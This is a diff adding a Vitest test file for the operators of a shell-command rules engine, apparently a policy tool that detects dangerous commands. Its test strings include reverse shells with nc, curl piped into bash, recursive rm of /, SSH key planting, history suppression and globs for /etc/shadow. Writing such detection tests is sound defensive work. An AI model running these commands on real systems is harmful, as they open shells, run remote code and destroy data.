@@ -1,0 +1,261 @@
+import { describe, expect, it } from 'vitest';
+import { parseCommandLine } from '../../shell/parse-command-line';
+import { checkRegex } from './check-regex';
+import type { CompileContext, Predicate } from './operator';
+import { compileOperator, OPERATORS } from './registry';
+
+const ctx: CompileContext = {
+  lists: new Map([
+    ['shells', new Set(['sh', 'bash'])],
+    ['downloaders', new Set(['curl', 'wget'])],
+  ]),
+  checkRegex,
+};
+
+function op(name: string, value: unknown): Predicate {
+  const result = compileOperator(name, value, ctx);
+  if (!result.ok) throw new Error(JSON.stringify(result.problems));
+  return result.test;
+}
+
+function problems(name: string, value: unknown): string[] {
+  const result = compileOperator(name, value, ctx);
+  return result.ok ? [] : result.problems.map((p) => `${p.pointer}: ${p.message}`);
+}
+
+describe('built-in operators (json-rules-engine semantics)', () => {
+  it('equal / notEqual / in / notIn', () => {
+    expect(op('equal', 'rm')('rm')).toBe(true);
+    expect(op('notEqual', 'rm')(undefined)).toBe(true);
+    expect(op('in', ['a', 'b'])('b')).toBe(true);
+    expect(op('notIn', ['a', 'b'])('c')).toBe(true);
+    expect(problems('in', 'ab')).toEqual([': in needs an array value']);
+  });
+
+  it('contains / doesNotContain need an array fact', () => {
+    expect(op('contains', 'rm')(['ls', 'rm'])).toBe(true);
+    expect(op('contains', 'rm')('rm -rf')).toBe(false);
+    expect(op('doesNotContain', 'rm')(['ls'])).toBe(true);
+    expect(op('doesNotContain', 'rm')(undefined)).toBe(false);
+  });
+
+  it('numeric comparisons need a numeric fact', () => {
+    expect(op('greaterThan', 0)(1)).toBe(true);
+    expect(op('lessThanInclusive', 5)('5')).toBe(true);
+    expect(op('lessThan', 5)(undefined)).toBe(false);
+    expect(op('greaterThanInclusive', 1)(1)).toBe(true);
+  });
+});
+
+describe('regex', () => {
+  it('matches strings and any string of an array, with flags', () => {
+    expect(op('regex', '^rm\\b')('rm -rf /')).toBe(true);
+    expect(op('regex', { pattern: '^RM', flags: 'i' })('rm')).toBe(true);
+    expect(op('regex', 'nc')(['ls', 'ncat'])).toBe(true);
+    expect(op('regex', 'x')(42)).toBe(false);
+  });
+
+  it('rejects catastrophic backtracking, bad syntax and stateful flags', () => {
+    expect(problems('regex', '(a+)+$')[0]).toMatch(/catastrophic/);
+    expect(problems('regex', { pattern: '(x*)*y' })[0]).toMatch(/^\/pattern: .*catastrophic/);
+    expect(problems('regex', '([a-z')[0]).toMatch(/invalid regex/);
+    expect(problems('regex', { pattern: 'a', flags: 'g' })[0]).toMatch(/flags/);
+  });
+});
+
+describe('glob', () => {
+  it('matches paths, * not crossing /', () => {
+    expect(op('glob', '/etc/*')('/etc/shadow')).toBe(true);
+    expect(op('glob', '/etc/*')('/etc/ssh/sshd_config')).toBe(false);
+    expect(op('glob', ['/root/**', '**/.ssh/*'])('/home/bob/.ssh/authorized_keys')).toBe(true);
+  });
+});
+
+describe('startsWithI / endsWithI / containsI', () => {
+  it('compare case-insensitively against one or several needles', () => {
+    expect(op('startsWithI', '/TMP/')('/tmp/x')).toBe(true);
+    expect(op('endsWithI', ['.SH', '.py'])('run.sh')).toBe(true);
+    expect(op('containsI', 'Base64')('echo x | BASE64 -d')).toBe(true);
+    expect(op('containsI', 'zzz')('abc')).toBe(false);
+  });
+});
+
+describe('containsWord', () => {
+  it('needs word boundaries on both sides', () => {
+    expect(op('containsWord', 'nc')('nc -e /bin/sh 1.2.3.4')).toBe(true);
+    expect(op('containsWord', 'nc')('/usr/bin/nc')).toBe(true);
+    expect(op('containsWord', 'nc')('rsync -a x y')).toBe(false);
+    expect(op('containsWord', ['nc', 'ncat'])('x ncat y')).toBe(true);
+  });
+});
+
+describe('inList', () => {
+  it('looks up named lists and rejects unknown names', () => {
+    expect(op('inList', 'shells')(['curl', 'bash'])).toBe(true);
+    expect(op('inList', 'shells')('zsh')).toBe(false);
+    expect(problems('inList', 'nope')).toEqual([': unknown list "nope"']);
+  });
+});
+
+describe('cidr', () => {
+  it('handles IPv4, IPv6, mapped addresses and garbage', () => {
+    const test = op('cidr', ['10.0.0.0/8', 'fd00::/8', '192.168.1.7']);
+    expect(test('10.1.2.3')).toBe(true);
+    expect(test('::ffff:10.1.2.3')).toBe(true);
+    expect(test('fd12::1')).toBe(true);
+    expect(test('192.168.1.7')).toBe(true);
+    expect(test('192.168.1.8')).toBe(false);
+    expect(test('not an ip')).toBe(false);
+    expect(problems('cidr', ['10.0.0.0/33'])).toEqual(['/0: invalid CIDR "10.0.0.0/33"']);
+  });
+});
+
+describe('hasFlag', () => {
+  const rf = op('hasFlag', ['r|R|recursive', 'f|force']);
+  it.each([
+    'rm -rf x',
+    'rm -fr x',
+    'rm -r -f x',
+    'rm --recursive --force x',
+    'rm -Rf x',
+    'rm -R --force x',
+  ])('finds r and f in %s', (line) => {
+    expect(rf(parseCommandLine(line))).toBe(true);
+    expect(rf(parseCommandLine(line)[0])).toBe(true);
+    expect(rf(line.split(' '))).toBe(true);
+    expect(rf(line)).toBe(true);
+  });
+  it('needs every item', () => {
+    expect(rf(parseCommandLine('rm -r x'))).toBe(false);
+    expect(rf(parseCommandLine('rm -- -rf'))).toBe(false);
+    expect(problems('hasFlag', ['r|'])).toEqual([]);
+    expect(problems('hasFlag', ['|'])[0]).toMatch(/empty flag/);
+  });
+});
+
+describe('timeOfDay / dayOfWeek', () => {
+  it('uses the time zone and wraps midnight', () => {
+    const night = op('timeOfDay', { from: '22:00', to: '06:00', timeZone: 'Europe/Berlin' });
+    expect(night('2026-01-15T22:30:00Z')).toBe(true); // 23:30 in Berlin
+    expect(night('2026-01-15T12:00:00Z')).toBe(false);
+    expect(night('garbage')).toBe(false);
+    const office = op('timeOfDay', { from: '09:00', to: '17:00' });
+    expect(office(Date.parse('2026-01-15T09:00:00Z'))).toBe(true);
+    expect(office('2026-01-15T17:00:00Z')).toBe(false);
+    expect(problems('timeOfDay', { from: '9:00', to: '17:00' })).toEqual([
+      '/from: from must be "HH:MM" (24-hour)',
+    ]);
+    expect(
+      problems('timeOfDay', { from: '09:00', to: '17:00', timeZone: 'Mars/Olympus' })[0],
+    ).toMatch(/^\/timeZone/);
+  });
+
+  it('finds the local weekday', () => {
+    const weekend = op('dayOfWeek', { days: ['sat', 'sun'], timeZone: 'Pacific/Auckland' });
+    expect(weekend('2026-01-16T12:00:00Z')).toBe(true); // Sat 01:00 in Auckland
+    expect(weekend('2026-01-15T12:00:00Z')).toBe(false);
+    expect(problems('dayOfWeek', { days: ['funday'] })[0]).toMatch(/^\/days\/0/);
+  });
+});
+
+describe('exists', () => {
+  it('tests presence', () => {
+    expect(op('exists', true)('x')).toBe(true);
+    expect(op('exists', true)(null)).toBe(false);
+    expect(op('exists', false)(undefined)).toBe(true);
+  });
+});
+
+describe('anyCommand', () => {
+  const matches = (spec: unknown, line: string): boolean =>
+    op('anyCommand', spec)(parseCommandLine(line));
+
+  it('matches program, flags and arguments of any sub-command', () => {
+    const spec = { program: 'rm', hasFlags: ['r|recursive', 'f|force'], anyArg: { regex: '^/$' } };
+    expect(matches(spec, 'ls; sudo /bin/rm -fr /')).toBe(true);
+    expect(matches(spec, 'rm -rf ./build')).toBe(false);
+    expect(matches({ program: ['nc', 'ncat'], hasAnyFlag: ['e', 'c'] }, 'nc -e /bin/sh h 1')).toBe(
+      true,
+    );
+    expect(matches({ args: { regex: '-o /tmp/' } }, 'curl -o /tmp/x http://h')).toBe(true);
+    expect(matches({ raw: { containsI: 'BASE64' } }, 'base64 -d f')).toBe(true);
+  });
+
+  it('matches redirects, assignments, wrappers and elevation', () => {
+    expect(
+      matches({ redirect: { glob: '**/authorized_keys' } }, 'echo k >> /root/.ssh/authorized_keys'),
+    ).toBe(true);
+    expect(matches({ assignment: { startsWithI: 'HISTFILE=' } }, 'HISTFILE=/dev/null bash')).toBe(
+      true,
+    );
+    expect(matches({ wrappedBy: 'nohup' }, 'nohup x &')).toBe(true);
+    expect(matches({ program: 'rm', elevated: true }, 'sudo rm x')).toBe(true);
+    expect(matches({ program: 'rm', elevated: true }, 'rm x')).toBe(false);
+  });
+
+  it('relates commands of one pipeline with pipedFrom / pipesTo', () => {
+    const spec = {
+      program: { inList: 'shells' },
+      pipedFrom: { program: { inList: 'downloaders' } },
+    };
+    expect(matches(spec, 'curl -s x | tee f | sudo bash')).toBe(true);
+    expect(matches(spec, 'curl -s x > f; bash f')).toBe(false);
+    expect(matches(spec, 'bash | curl x')).toBe(false);
+    expect(matches({ program: 'curl', pipesTo: { program: 'sh' } }, 'curl x | sh')).toBe(true);
+  });
+
+  it('negates with not', () => {
+    expect(
+      matches({ program: 'rm', not: { anyArg: { startsWithI: '/tmp/' } } }, 'rm -rf /tmp/x'),
+    ).toBe(false);
+    expect(
+      matches({ program: 'rm', not: { anyArg: { startsWithI: '/tmp/' } } }, 'rm -rf /srv'),
+    ).toBe(true);
+  });
+
+  it('reports every bad key with its pointer', () => {
+    expect(
+      problems('anyCommand', {
+        program: { regex: '(a+)+$' },
+        bogus: 1,
+        pipedFrom: { hasFlags: 3 },
+      }),
+    ).toEqual([
+      expect.stringMatching(/^\/program\/regex: .*catastrophic/),
+      expect.stringMatching(/^\/bogus: unknown command spec key/),
+      expect.stringMatching(/^\/pipedFrom\/hasFlags: /),
+    ]);
+  });
+
+  it('is false on a fact that is not a command list', () => {
+    expect(op('anyCommand', { program: 'rm' })('rm')).toBe(false);
+  });
+});
+
+describe('not: decorator and registry', () => {
+  it('negates any operator', () => {
+    expect(op('not:regex', '^rm')('ls')).toBe(true);
+    expect(op('not:contains', 'x')('not an array')).toBe(true);
+    expect(problems('frobnicate', 1)).toEqual([': unknown operator "frobnicate"']);
+  });
+
+  it('never throws from a predicate', () => {
+    for (const [name] of OPERATORS) {
+      const result = compileOperator(name, name === 'inList' ? 'shells' : 'x', ctx);
+      if (!result.ok) continue;
+      for (const fact of [
+        undefined,
+        null,
+        1,
+        'x',
+        [],
+        {},
+        [null],
+        { flags: 3 },
+        [{ program: 1 }],
+      ]) {
+        expect(() => result.test(fact)).not.toThrow();
+      }
+    }
+  });
+});
